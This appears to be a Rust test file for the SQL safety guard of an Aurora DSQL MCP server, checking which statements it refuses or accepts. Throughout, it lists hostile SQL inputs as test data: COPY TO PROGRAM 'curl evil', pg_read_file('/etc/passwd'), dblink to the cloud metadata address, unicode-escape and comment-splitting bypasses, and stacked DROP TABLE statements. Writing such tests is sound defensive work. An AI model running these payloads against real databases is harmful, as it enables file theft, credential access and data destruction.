//! The guard's behaviour, on the cases the reference's tests cover
//! (test_sql_guard.py, test_readonly_enforcement.py, test_server.py) and our own.
//! Pure: no database.

use aurora_dsql_mcp_server::policy::{
    Access, Checked, Placeholders, PolicyError, StatementKind, check,
};

const RO: Access = Access::ReadOnly;
const RW: Access = Access::ReadWrite;
const PSY: Placeholders = Placeholders::Psycopg;
const NUM: Placeholders = Placeholders::Numbered;

fn ok(sql: &str, access: Access) -> Checked {
    match check(sql, None, PSY, access) {
        Ok(c) => c,
        Err(e) => panic!("expected {sql:?} to pass in {access:?}, got: {e}"),
    }
}

fn ok_p(sql: &str, params: usize, access: Access) -> Checked {
    match check(sql, Some(params), PSY, access) {
        Ok(c) => c,
        Err(e) => panic!("expected {sql:?} with {params} params to pass in {access:?}, got: {e}"),
    }
}

fn err(sql: &str, access: Access) -> PolicyError {
    match check(sql, None, PSY, access) {
        Ok(c) => panic!("expected {sql:?} to be refused in {access:?}, got {c:?}"),
        Err(e) => e,
    }
}

fn injection(sql: &str, access: Access, needle: &str) {
    match err(sql, access) {
        PolicyError::Injection(why) => assert!(
            why.to_lowercase().contains(&needle.to_lowercase()),
            "{sql:?} in {access:?}: reason {why:?} lacks {needle:?}"
        ),
        other => panic!("{sql:?} in {access:?}: expected Injection, got {other:?}"),
    }
}

fn write_refused(sql: &str, needle: &str) {
    match err(sql, RO) {
        PolicyError::WriteNotAllowed(why) => assert!(
            why.to_lowercase().contains(&needle.to_lowercase()),
            "{sql:?}: reason {why:?} lacks {needle:?}"
        ),
        other => panic!("{sql:?}: expected WriteNotAllowed, got {other:?}"),
    }
}

fn bypass(sql: &str, needle: &str) {
    match err(sql, RO) {
        PolicyError::Bypass(why) => assert!(
            why.to_lowercase().contains(&needle.to_lowercase()),
            "{sql:?}: reason {why:?} lacks {needle:?}"
        ),
        other => panic!("{sql:?}: expected Bypass, got {other:?}"),
    }
}

fn both_injection(sql: &str, needle: &str) {
    injection(sql, RW, needle);
    // In read-only mode the same statement is refused too (by whichever check comes first).
    assert!(
        check(sql, None, PSY, RO).is_err(),
        "{sql:?} passed in read-only mode"
    );
}

// ---- test_sql_guard.py: must reject in both modes ----

#[test]
fn unicode_escaped_names_are_decoded_before_checking() {
    both_injection(
        r#"SELECT U&"pg_read_fil\0065"('/etc/passwd')"#,
        "pg_read_file",
    );
    both_injection(r#"SELECT U&"lo_impor\0074"('/etc/passwd')"#, "lo_import");
    both_injection(r#"SELECT U&"pg_sl\0065ep"(10)"#, "pg_sleep");
    both_injection(r#"SELECT U&"dblin\006b"('host=x', 'select 1')"#, "dblink");
    both_injection(r#"SELECT u&"pg_sl!0065ep" UESCAPE '!' (10)"#, "pg_sleep");
    both_injection(r#"SELECT * FROM U&"pg_sl\0065ep"(1)"#, "pg_sleep");
    // undecodable escapes fail closed
    both_injection(r#"SELECT U&"pg_sl\00zzep"(10)"#, "could not be scanned");
    both_injection(r#"SELECT U&"\0000"(10)"#, "could not be scanned");
}

#[test]
fn transaction_control_is_refused() {
    for sql in [
        "BEGIN",
        "COMMIT",
        "ROLLBACK",
        "SAVEPOINT s",
        "RELEASE SAVEPOINT s",
        "ROLLBACK TO SAVEPOINT s",
        "START TRANSACTION READ ONLY",
        "END",
        "ABORT",
        "COMMIT PREPARED 'x'",
    ] {
        bypass(sql, "transaction control");
        injection(
            sql,
            RW,
            "Caller-supplied transaction control is not allowed",
        );
    }
}

#[test]
fn opaque_code_and_host_access_are_refused() {
    both_injection("LOAD 'library'", "LOAD");
    both_injection("DO $$ BEGIN PERFORM 1; END $$", "DO blocks");
    both_injection(
        "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'",
        "function and procedure definitions",
    );
    both_injection(
        "CREATE PROCEDURE p() LANGUAGE sql AS 'SELECT 1'",
        "function and procedure definitions",
    );
    both_injection("CALL p()", "stored procedure calls");
    both_injection("COPY (SELECT 1) TO PROGRAM 'id'", "PROGRAM");
    both_injection("COPY t FROM PROGRAM 'curl evil'", "PROGRAM");
    both_injection("COPY t TO PROGRAM 'curl evil'", "PROGRAM");
    both_injection("COPY t FROM '/etc/passwd'", "server-side file");
    both_injection("COPY t TO '/tmp/x'", "server-side file");
    both_injection("COPY users TO '/tmp/users.csv'", "server-side file");
    both_injection("COPY/**/users FROM '/tmp/x'", "server-side file");
}

#[test]
fn session_resets_and_security_settings_are_refused() {
    both_injection("DISCARD ALL", "DISCARD ALL");
    both_injection("RESET ALL", "RESET ALL");
    both_injection("SET row_security = off", "row_security");
    both_injection("SET LOCAL row_security TO off", "row_security");
    both_injection("SET \"ROW_SECURITY\" = off", "row_security");
    both_injection(
        "SET session_replication_role = replica",
        "session_replication_role",
    );
    // set_config() is refused whatever it sets (SET, which the guard can read, is the way
    // to change a setting when writes are allowed).
    for sql in [
        "SELECT set_config('session_replication_role', 'replica', false)",
        "SELECT set_config('ROW_SECURITY', 'off', true)",
        "SELECT set_config(current_setting('x'), 'off', false)",
        "SELECT set_config('work_mem', '64MB', false)",
        "SELECT (SELECT 1 FROM pg_catalog.set_config('search_path', 'pg_temp', false))",
    ] {
        both_injection(
            sql,
            "set_config (it changes session or server configuration)",
        );
    }
}

#[test]
fn aws_extension_and_cron_functions_are_refused() {
    for f in [
        "invoke",
        "query_export_to_s3",
        "table_import_from_s3",
        "schedule",
        "unschedule",
        "schedule_in_database",
        "alter_job",
    ] {
        both_injection(&format!("SELECT {f}(1)"), f);
        both_injection(&format!("SELECT aws_lambda.{f}(1)"), f);
        both_injection(&format!("SELECT * FROM {f}(1)"), f);
    }
}

#[test]
fn dangerous_functions_are_refused_anywhere_qualified_or_not() {
    for sql in [
        "SELECT pg_sleep(10)",
        "SELECT pg_catalog.pg_sleep(10)",
        "SELECT PG_SLEEP(10)",
        "SELECT \"pg_sleep\"(1)",
        "SELECT pg_sleep_for('1 minute')",
        "SELECT pg_sleep_until(now())",
        "SELECT sleep(5)",
        "SELECT * FROM t WHERE id = 1 AND sleep(5)",
        "SELECT pg_terminate_backend(1)",
        "SELECT pg_cancel_backend(1)",
        "SELECT pg_read_file('/etc/passwd')",
        "SELECT pg_read_binary_file('/etc/passwd')",
        "SELECT pg_ls_dir('.')",
        "SELECT pg_stat_file('x')",
        "SELECT lo_import('/etc/passwd')",
        "SELECT lo_export(1, '/tmp/x')",
        "SELECT pg_advisory_lock(1)",
        "SELECT pg_try_advisory_xact_lock(1)",
        "SELECT pg_notify('c', 'x')",
        "SELECT dblink_connect('host=169.254.169.254')",
        "SELECT * FROM dblink('host=x', 'select 1') AS t(a int)",
        "SELECT pg_reload_conf()",
        "SELECT pg_rotate_logfile()",
        "SELECT load_file('/etc/passwd')",
        "SELECT query_to_xml('select pg_sleep(1)', true, true, '')",
        // everywhere in the tree
        "WITH x AS (SELECT pg_sleep(1)) SELECT * FROM x",
        "SELECT * FROM (SELECT pg_sleep(1)) s",
        "SELECT 1 FROM t ORDER BY pg_sleep(1)",
        "SELECT 1 FROM t GROUP BY 1 HAVING count(pg_sleep(1)) > 0",
        "SELECT * FROM t, LATERAL pg_sleep(1)",
        "SELECT * FROM t WHERE EXISTS (SELECT pg_sleep(1))",
        "SELECT CASE WHEN true THEN pg_sleep(1) END",
        "SELECT coalesce(null, pg_sleep(1))",
        "SELECT sum(x) OVER (ORDER BY pg_sleep(1)) FROM t",
        "SELECT 1 UNION SELECT pg_sleep(1)",
        "VALUES (pg_sleep(1))",
        "EXPLAIN SELECT pg_sleep(1)",
    ] {
        both_injection(sql, "Dangerous function call not allowed");
    }
    for sql in [
        "INSERT INTO t SELECT pg_sleep(1)",
        "UPDATE t SET a = pg_sleep(1)",
        "DELETE FROM t WHERE pg_sleep(1) IS NULL",
        "CREATE TABLE t (a int DEFAULT pg_sleep(1))",
        "CREATE VIEW v AS SELECT pg_sleep(1)",
        "CREATE INDEX ASYNC i ON t ((pg_sleep(1)))",
        "PREPARE p AS SELECT pg_sleep(1)",
    ] {
        injection(sql, RW, "Dangerous function call not allowed");
    }
}

#[test]
fn quoted_names_keep_their_case() {
    // "LOWER" is not the built-in lower: an unknown function, refused read-only and taken
    // for the user's own when writes are allowed.
    injection(r#"SELECT "LOWER"('a')"#, RO, "Function not allowed: LOWER");
    let c = ok(r#"SELECT "LOWER"('a')"#, RW);
    assert_eq!(c.kind, StatementKind::Read);
    // The refused families are matched without case: no spelling dodges them.
    for access in [RO, RW] {
        injection(r#"SELECT "PG_SLEEP"(1)"#, access, "PG_SLEEP");
        injection(r#"SELECT "pg_sleep"(1)"#, access, "pg_sleep");
    }
}

// ---- test_sql_guard.py: must reject in read-only mode ----

#[test]
fn read_only_refuses_writes() {
    write_refused("INSERT INTO t VALUES (1)", "INSERT");
    match check("insert into t values (%s)", Some(1), PSY, RO) {
        Err(PolicyError::WriteNotAllowed(why)) => assert!(why.contains("INSERT")),
        other => panic!("{other:?}"),
    }
    write_refused("UPDATE t SET a = 1", "UPDATE");
    write_refused("DELETE FROM orders", "DELETE");
    write_refused("delete from orders", "DELETE");
    write_refused(
        "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE",
        "MERGE",
    );
    write_refused("DROP TABLE users", "DROP TABLE");
    write_refused("TRUNCATE t", "TRUNCATE");
    write_refused("CREATE TABLE t (id int)", "CREATE TABLE");
    write_refused("ALTER TABLE t ADD COLUMN c int", "ALTER TABLE");
    write_refused("GRANT SELECT ON t TO u", "GRANT");
    write_refused("REVOKE SELECT ON t FROM u", "REVOKE");
    write_refused(
        "AWS IAM GRANT app TO 'arn:aws:iam::123456789012:role/app'",
        "AWS IAM GRANT",
    );
    injection(
        "SELECT E'\\'', set_config('search_path', 'pg_temp', false)",
        RO,
        "set_config",
    );
    write_refused("SELECT nextval('seq')", "nextval");
    write_refused("SELECT setval('seq', 1)", "setval");
    write_refused("SELECT 1%setseed(0.5)", "setseed");
    injection("SELECT pg_stat_reset()", RO, "pg_stat_reset");
    injection("SELECT lo_create(0)", RO, "lo_create");
    write_refused("SET work_mem='64MB'", "SET");
    write_refused("SET search_path = evil", "SET");
    write_refused("SET ROLE admin", "SET");
    write_refused("RESET work_mem", "RESET");
    write_refused("EXPLAIN ANALYZE EXECUTE p", "EXECUTE");
    write_refused("EXPLAIN (ANALYZE) EXECUTE p", "EXECUTE");
    write_refused("EXPLAIN (ANALYZE true) EXECUTE p", "EXECUTE");
    write_refused("EXECUTE p", "EXECUTE");
    write_refused("EXPLAIN INSERT INTO t VALUES (1)", "INSERT");
    write_refused("EXPLAIN ANALYZE DELETE FROM t", "DELETE");
    write_refused("SELECT 1 INTO created_table", "INTO");
    write_refused("SELECT * INTO new_t FROM t", "INTO");
    write_refused("SELECT * FROM t FOR UPDATE", "FOR UPDATE");
    write_refused("SELECT * FROM t FOR SHARE", "FOR UPDATE/SHARE");
    write_refused("SELECT * FROM t FOR KEY SHARE", "FOR UPDATE/SHARE");
    write_refused("SELECT * FROM (SELECT * FROM t FOR UPDATE) s", "FOR UPDATE");
    write_refused(
        "WITH x AS (INSERT INTO t VALUES (1) RETURNING *) SELECT * FROM x",
        "data-modifying",
    );
    write_refused(
        "WITH x AS (DELETE FROM t RETURNING *) SELECT * FROM x",
        "data-modifying",
    );
    write_refused("LISTEN c", "LISTEN");
    write_refused("UNLISTEN c", "UNLISTEN");
    write_refused("LOCK TABLE t", "LOCK");
    write_refused("PREPARE p AS SELECT 1", "PREPARE");
    write_refused("DEALLOCATE p", "DEALLOCATE");
    write_refused("DECLARE c CURSOR WITH HOLD FOR SELECT 1", "DECLARE");
    write_refused("COMMENT ON TABLE t IS 'x'", "COMMENT");
    write_refused("ANALYZE t", "ANALYZE");
    write_refused("VACUUM t", "VACUUM");
    write_refused("DISCARD PLANS", "DISCARD");
    injection("COPY t TO STDOUT", RO, "COPY ... FROM STDIN / TO STDOUT");
    write_refused(
        "SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE",
        "SET",
    );
    write_refused("CALL sys.wait_for_job('abc')", "wait_for_job");
}

#[test]
fn read_only_refuses_set_transaction_read_write() {
    bypass("SET TRANSACTION READ WRITE", "READ WRITE");
    bypass(
        "SET TRANSACTION ISOLATION LEVEL SERIALIZABLE,\nREAD WRITE",
        "READ WRITE",
    );
    let c = ok("SET TRANSACTION READ WRITE", RW);
    assert_eq!(c.kind, StatementKind::TransactionSetting);
}

#[test]
fn several_statements_are_refused() {
    bypass("SELECT 1; SELECT 2", "Exactly one SQL statement is allowed");
    bypass("SELECT 1;SELECT 2", "Exactly one SQL statement is allowed");
    injection(
        "SELECT 1; SELECT 2",
        RW,
        "Exactly one SQL statement is allowed",
    );
    injection("INSERT INTO t VALUES (1); DELETE FROM t", RW, "Exactly one");
    // a write among them reports the write first in read-only mode
    write_refused("COMMIT; DROP TABLE users", "DROP TABLE");
    write_refused("SELECT 1; DROP TABLE users", "DROP TABLE");
    injection("COMMIT; DROP TABLE users", RW, "Exactly one");
    injection("COMMIT", RW, "transaction control");
    // a trailing semicolon is still one statement
    ok("SELECT 1;", RO);
}

#[test]
fn aws_iam_statements() {
    let c = ok(
        "AWS IAM GRANT app TO 'arn:aws:iam::123456789012:role/app'",
        RW,
    );
    assert_eq!(c.kind, StatementKind::Ddl);
    assert_eq!(c.command, "AWS IAM GRANT");
    ok(
        "AWS IAM REVOKE app FROM 'arn:aws:iam::123456789012:role/app'",
        RW,
    );
    ok(
        r#"AWS IAM GRANT "AppRole" TO 'arn:aws:iam::123456789012:role/app'"#,
        RW,
    );
    let c = ok(
        r"AWS IAM GRANT app TO U&'arn:aws:iam::123456789012:role/\0061pp'",
        RW,
    );
    assert_eq!(
        c.sql,
        "AWS IAM GRANT app TO 'arn:aws:iam::123456789012:role/app'"
    );
    // malformed forms fail closed
    injection("AWS IAM GRANT app FROM 'arn:x'", RW, "could not be parsed");
    injection(
        "AWS IAM GRANT app TO 'arn:x' extra",
        RW,
        "could not be parsed",
    );
    injection("AWS IAM GRANT 1 TO 'arn:x'", RW, "could not be parsed");
}

// ---- test_sql_guard.py: must accept ----

#[test]
fn accepts_reads() {
    for sql in [
        "SELECT 1",
        "SELECT '%s is data', $tagé$%s is also data$tagé$",
        "EXPLAIN ANALYZE SELECT * FROM t",
        "EXPLAIN (ANALYZE, BUFFERS) SELECT * FROM t",
        "SELECT 10 % sqrt(4)",
        "SET TRANSACTION ISOLATION LEVEL SERIALIZABLE, READ ONLY",
        "SET TRANSACTION READ ONLY",
        "EXPLAIN EXECUTE p",
        "EXPLAIN (ANALYZE false) EXECUTE p",
        "EXPLAIN (ANALYZE off) EXECUTE p",
        "SHOW work_mem",
        "SHOW ALL",
        "VALUES (1), (2)",
        "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 5) SELECT * FROM r",
        "SELECT a.id, b.name FROM a JOIN b ON a.id = b.a_id WHERE a.x > 1 ORDER BY 2 LIMIT 10",
        "SELECT * FROM t WHERE EXISTS (SELECT 1 FROM u WHERE u.t_id = t.id)",
        "SELECT count(*) FILTER (WHERE a > 1) FROM t GROUP BY ROLLUP (b)",
        "SELECT row_number() OVER (PARTITION BY a ORDER BY b DESC) FROM t",
        "SELECT * FROM generate_series(1, 10)",
        "SELECT * FROM unnest(ARRAY[1, 2])",
        "SELECT currval('s'), current_setting('work_mem')",
        "SELECT job_id, status FROM sys.jobs WHERE status IN ('submitted','processing')",
        "SELECT '{\"a\":1}'::jsonb -> 'a'",
        "SELECT 'CALL p()' AS example",
        "SELECT config, reset_date, set_id, comment FROM t",
        "SELECT \"o'clock\" FROM t WHERE note = 'it''s'",
        "SELECT $$ DROP TABLE t; $$",
        "SELECT 'DROP TABLE t; COMMIT;'",
        "SELECT E'\\' ; DROP TABLE t; --'",
        "/* /* nested */ comment */ SELECT 1",
        "-- leading comment\nSELECT 1 -- trailing",
        "SELECT * FROM t WHERE name LIKE 'error%'",
        "SELECT * FROM t WHERE a IS NOT NULL OR b IS NOT NULL",
        "SELECT * FROM t WHERE price > 10 OR discount > 0",
        "SELECT U&'d\\0061ta'",
        "SELECT U&\"d\\0061ta\" FROM t",
    ] {
        let c = ok(sql, RO);
        assert_eq!(
            c.kind,
            match c.command.as_str() {
                "SET" => StatementKind::TransactionSetting,
                _ => StatementKind::Read,
            },
            "{sql}"
        );
    }
}

/// Deliberate differences from the reference: its regexes refused these reads.
#[test]
fn accepts_reads_the_reference_regexes_refused() {
    for sql in [
        "SELECT id FROM a UNION SELECT id FROM b",
        "SELECT id FROM a UNION ALL SELECT id FROM b",
        "SELECT * FROM users WHERE id = 1 OR 1=1",
        "SELECT * FROM users WHERE id = 1 OR 99=99",
        "SELECT * FROM users WHERE name = 'a' OR 'a'='a'",
        "SELECT * FROM users WHERE id = '1' --'",
        "SELECT 'x' -- it's a comment",
        "SELECT 'union select' AS s",
    ] {
        ok(sql, RO);
    }
}

#[test]
fn placeholders_psycopg() {
    let c = ok_p("SELECT * FROM t WHERE tenant_id = %s", 1, RO);
    assert_eq!(c.sql, "SELECT * FROM t WHERE tenant_id = $1");
    assert_eq!(c.param_count, 1);
    let c = ok_p("SELECT %b, %t", 2, RO);
    assert_eq!(c.sql, "SELECT $1, $2");
    let c = ok_p("SELECT 10 %% 3", 0, RO);
    assert_eq!(c.sql, "SELECT 10 % 3");
    assert_eq!(c.param_count, 0);
    let c = ok_p("SELECT %s -- progress 100%", 1, RO);
    assert_eq!(c.sql, "SELECT $1 -- progress 100%");
    // without parameters the text is left alone
    let c = ok("SELECT '%s is data', $tagé$%s is also data$tagé$", RO);
    assert_eq!(c.sql, "SELECT '%s is data', $tagé$%s is also data$tagé$");
    assert_eq!(c.param_count, 0);
    let c = ok_p("INSERT INTO t (a) VALUES (%s)", 1, RW);
    assert_eq!(c.kind, StatementKind::Dml);
    assert_eq!(c.command, "INSERT");
}

fn inj_p(sql: &str, params: Option<usize>, style: Placeholders, needle: &str) {
    match check(sql, params, style, RO) {
        Err(PolicyError::Injection(why)) => {
            assert!(why.contains(needle), "{sql:?}: {why:?} lacks {needle:?}")
        }
        other => panic!("{sql:?}: expected Injection, got {other:?}"),
    }
}

#[test]
fn placeholder_mismatches_fail_closed() {
    inj_p(
        "SELECT %s",
        Some(0),
        PSY,
        "Query has 1 placeholders but 0 parameters were supplied",
    );
    inj_p(
        "SELECT 1",
        Some(1),
        PSY,
        "Query has 0 placeholders but 1 parameters were supplied",
    );
    // psycopg counts a %s inside a string: the statement then takes no parameter
    inj_p("SELECT '%s'", Some(1), PSY, "parameters");
    inj_p("SELECT 1 % q", Some(0), PSY, "Invalid placeholder syntax");
    inj_p("SELECT '%s", Some(1), PSY, "could not be parsed");
    inj_p("SELECT '%s", None, PSY, "could not be parsed");
    inj_p("SELECT %s", None, PSY, "could not be parsed");
    inj_p("SELECT $1", None, PSY, "parameters");
    // numbered
    inj_p(
        "SELECT $1",
        None,
        NUM,
        "Query has 1 placeholders but 0 parameters were supplied",
    );
    inj_p(
        "SELECT $2",
        Some(1),
        NUM,
        "Query has 2 placeholders but 1 parameters were supplied",
    );
    inj_p(
        "SELECT 1",
        Some(1),
        NUM,
        "Query has 0 placeholders but 1 parameters were supplied",
    );
    inj_p("SELECT $0", Some(0), NUM, "$0");
    let c = check("SELECT $1, $2, $1", Some(2), NUM, RO).unwrap();
    assert_eq!(c.param_count, 2);
    assert_eq!(c.sql, "SELECT $1, $2, $1");
    // `%` means modulo in numbered style
    check("SELECT 10 % 3", None, NUM, RO).unwrap();
    // a $1 inside a string is not a placeholder
    inj_p("SELECT '$1'", Some(1), NUM, "Query has 0 placeholders");
}

// ---- write mode ----

#[test]
fn write_mode_accepts() {
    let cases: &[(&str, StatementKind, &str)] = &[
        ("INSERT INTO t VALUES (1)", StatementKind::Dml, "INSERT"),
        (
            "UPDATE t SET a = 1 WHERE id = 2",
            StatementKind::Dml,
            "UPDATE",
        ),
        ("DELETE FROM t WHERE id = 2", StatementKind::Dml, "DELETE"),
        ("SELECT nextval('s')", StatementKind::Dml, "SELECT"),
        ("SELECT * FROM t FOR UPDATE", StatementKind::Dml, "SELECT"),
        ("RESET work_mem", StatementKind::Other, "RESET"),
        ("SET search_path = myschema", StatementKind::Other, "SET"),
        (
            "CREATE TABLE t (id uuid PRIMARY KEY)",
            StatementKind::Ddl,
            "CREATE TABLE",
        ),
        (
            "CREATE INDEX ASYNC i ON t (a)",
            StatementKind::Ddl,
            "CREATE INDEX",
        ),
        (
            "CREATE UNIQUE INDEX ASYNC i ON t (a)",
            StatementKind::Ddl,
            "CREATE INDEX",
        ),
        (
            "/* c */ ALTER TABLE ASYNC t VALIDATE CONSTRAINT c",
            StatementKind::Ddl,
            "ALTER TABLE",
        ),
        (
            "ALTER TABLE async ADD COLUMN c int",
            StatementKind::Ddl,
            "ALTER TABLE",
        ),
        (
            "ALTER TABLE IF EXISTS async ADD COLUMN c int",
            StatementKind::Ddl,
            "ALTER TABLE",
        ),
        ("DROP TABLE t", StatementKind::Ddl, "DROP TABLE"),
        ("DROP INDEX i", StatementKind::Ddl, "DROP INDEX"),
        ("GRANT SELECT ON t TO u", StatementKind::Ddl, "GRANT"),
        (
            "CALL sys.wait_for_job('yoeqoh5bcjgw7kcmwihktdbtgq')",
            StatementKind::WaitForJob,
            "CALL",
        ),
        (
            "call SYS.WAIT_FOR_JOB('x')",
            StatementKind::WaitForJob,
            "CALL",
        ),
        (
            "EXPLAIN ANALYZE INSERT INTO t VALUES (1)",
            StatementKind::Dml,
            "EXPLAIN",
        ),
        (
            "EXPLAIN INSERT INTO t VALUES (1)",
            StatementKind::Read,
            "EXPLAIN",
        ),
        ("SELECT 1", StatementKind::Read, "SELECT"),
        ("SHOW work_mem", StatementKind::Read, "SHOW"),
        (
            "SELECT * FROM t WHERE id = '1' --'",
            StatementKind::Read,
            "SELECT",
        ),
        (r#"SELECT "MyFunction"(1)"#, StatementKind::Read, "SELECT"),
    ];
    for (sql, kind, command) in cases {
        let c = ok(sql, RW);
        assert_eq!((c.kind, c.command.as_str()), (*kind, *command), "{sql}");
    }
    let c = check("CALL sys.wait_for_job(%s)", Some(1), PSY, RW).unwrap();
    assert_eq!(c.kind, StatementKind::WaitForJob);
}

#[test]
fn write_mode_refuses() {
    injection(
        "ALTER TABLE ASYNC t ADD COLUMN c int",
        RW,
        "ALTER TABLE ASYNC",
    );
    injection("CALL sys.wait_for_job('a', 'b')", RW, "stored procedure");
    injection("CALL other.wait_for_job('a')", RW, "stored procedure");
    injection("CALL \"SYS\".wait_for_job('a')", RW, "stored procedure");
    injection("NOTIFY c, 'x'", RW, "NOTIFY");
    injection("SELECT pg_terminate_backend(1)", RW, "pg_terminate_backend");
    injection("SET row_security = off", RW, "row_security");
    injection("COPY t TO PROGRAM 'curl evil'", RW, "PROGRAM");
    injection(
        "SELECT dblink_connect('host=169.254.169.254')",
        RW,
        "dblink_connect",
    );
    for sql in [
        "COPY t TO STDOUT",
        "COPY t FROM STDIN",
        "COPY (SELECT 1) TO STDOUT",
    ] {
        injection(
            sql,
            RW,
            "COPY ... FROM STDIN / TO STDOUT needs a data stream that MCP tool calls do not carry: load rows with INSERT ... VALUES in batches of at most 3,000 rows, and read them with SELECT",
        );
    }
}

#[test]
fn parse_errors_fail_closed_with_position() {
    match err("SELECT 1 2 3", RO) {
        PolicyError::Injection(why) => {
            assert!(why.starts_with("SQL could not be parsed: "), "{why}");
            assert!(why.contains("Line: 1, Column:"), "{why}");
        }
        other => panic!("{other:?}"),
    }
    injection("SELECT 'unterminated", RO, "could not be parsed");
    injection("SELECT \"unterminated", RO, "could not be parsed");
    injection("SELECT $$unterminated", RO, "could not be parsed");
    injection("SELECT 1\u{00a0}FROM t", RO, "non-ASCII whitespace");
    injection("", RO, "none was found");
    injection("-- only a comment", RO, "none was found");
}

#[test]
fn display_keeps_reference_prefixes() {
    let e = err("SELECT pg_sleep(1)", RO);
    assert_eq!(
        e.to_string(),
        "Your query contains risky injection patterns: Dangerous function call not allowed: pg_sleep (it makes the session wait)"
    );
    let e = err("INSERT INTO t VALUES (1)", RO);
    assert!(e.to_string().starts_with(
        "Your MCP server does not allow write operations. To use write operations, change the MCP configuration per README.md"
    ));
    let e = err("SELECT 1; SELECT 2", RO);
    assert!(
        e.to_string().starts_with(
            "Query contains patterns that could bypass read-only transaction controls"
        )
    );
}

// ---- test_readonly_enforcement.py corpus (adapted) ----

#[test]
fn comment_bypass_variants_are_caught() {
    for sql in [
        "SELECT * INTO/**/OUTFILE '/tmp/x' FROM users",
        "COPY/**/users FROM '/tmp/x'",
        "LOAD/**/DATA/**/INFILE '/tmp/x' INTO TABLE users",
        "SELECT 1 INTO OUTFILE '/tmp/x'",
        "SELECT/**/pg_sleep(10)",
        "SELECT pg_sleep/**/(10)",
        "SELECT 1;/**/DROP TABLE users",
    ] {
        assert!(
            check(sql, None, PSY, RO).is_err(),
            "{sql:?} passed in read-only mode"
        );
        assert!(
            check(sql, None, PSY, RW).is_err(),
            "{sql:?} passed in write mode"
        );
    }
}

#[test]
fn keywords_in_literals_are_data_but_statements_outside_are_not() {
    for sql in [
        "SELECT 'a''; DROP TABLE t; --'",
        "SELECT \"weird\"\"; DROP TABLE t\" FROM t",
        "SELECT $x$ '; DELETE FROM t; $x$",
        "SELECT E'\\'; DELETE FROM t; --'",
        "SELECT 'pg_sleep(10)', 'COMMIT', 'SET row_security = off'",
        "SELECT 1 /* ; DROP TABLE t; */",
        "SELECT 1 -- ; DROP TABLE t;",
    ] {
        ok(sql, RO);
    }
    bypass("SELECT 'a'; SELECT 'b'", "Exactly one");
    write_refused("SELECT 'x'; DROP TABLE t", "DROP TABLE");
    write_refused("SELECT E'\\''; DELETE FROM t", "DELETE");
}

#[test]
fn session_mutation_forms_in_read_only() {
    for (sql, needle) in [
        ("SET search_path TO public", "SET"),
        ("SET SESSION work_mem = '1GB'", "SET"),
        ("SET LOCAL statement_timeout = 0", "SET"),
        ("SET TIME ZONE 'UTC'", "SET"),
        ("RESET search_path", "RESET"),
        ("DISCARD TEMP", "DISCARD"),
        ("LISTEN chan", "LISTEN"),
        ("LOCK TABLE t IN ACCESS EXCLUSIVE MODE", "LOCK"),
        ("PREPARE q AS SELECT 1", "PREPARE"),
        ("DEALLOCATE ALL", "DEALLOCATE"),
        ("DECLARE c CURSOR WITH HOLD FOR SELECT 1", "DECLARE"),
    ] {
        write_refused(sql, needle);
    }
    bypass(
        "SET TRANSACTION ISOLATION LEVEL REPEATABLE READ\nREAD WRITE",
        "READ WRITE",
    );
    injection("DISCARD ALL", RO, "DISCARD ALL");
    injection("RESET ALL", RO, "RESET ALL");
}

#[test]
fn invalid_dollar_tags_fail_closed() {
    injection("SELECT $1$ pg_sleep(1) $1$", RW, "dollar-quote tag");
    ok("SELECT $a1$ x $a1$, $_$ y $_$", RO);
}

#[test]
fn u_amp_is_only_special_at_a_token_start() {
    // `xu&'a'` is the column xu, an operator and a string, in both parsers.
    let c = ok("SELECT xu&'1' FROM t", RO);
    assert_eq!(c.sql, "SELECT xu&'1' FROM t");
    // a U& string's content is data
    let c = ok(r"SELECT U&'pg_sl\0065ep(1)'", RO);
    assert_eq!(c.sql, "SELECT 'pg_sleep(1)'");
    // after a comment, U& starts a token again
    injection(r#"SELECT 1, /**/U&"pg_sl\0065ep"(1)"#, RW, "pg_sleep");
}

#[test]
fn line_comments_end_where_postgresql_ends_them() {
    // \r ends a comment in PostgreSQL: the call after it is code.
    injection("SELECT 1 -- x\r, pg_sleep(1)", RW, "pg_sleep");
    injection("SELECT 1 -- x\r, U&\"pg_sl\\0065ep\"(1)", RW, "pg_sleep");
    // \f and \v do not: the rest of the line is comment.
    ok("SELECT 1 -- x\u{c}, pg_sleep(1)", RO);
    ok("SELECT 1 -- x\u{b}, pg_sleep(1)", RO);
}

#[test]
fn lexer_disagreements_fail_closed() {
    // PostgreSQL ends the `||` operator before `--` and reads a comment;
    // sqlparser reads on, and would hide the second statement in a string.
    let sql = "SELECT \" pg_sleep\" ||-- ae'U&\"x\"''\nE'--pg_sleep(1)\\\\\\\\e\\'' FROM t ; DROP TABLE t";
    match check(sql, None, PSY, RO) {
        Err(PolicyError::Injection(why)) => assert!(why.contains("two lexers"), "{why}"),
        Err(PolicyError::Bypass(_)) | Err(PolicyError::WriteNotAllowed(_)) => {}
        other => panic!("{other:?}"),
    }
    injection("SELECT 'a' ||-- x\n 'b'", RO, "two lexers");
}
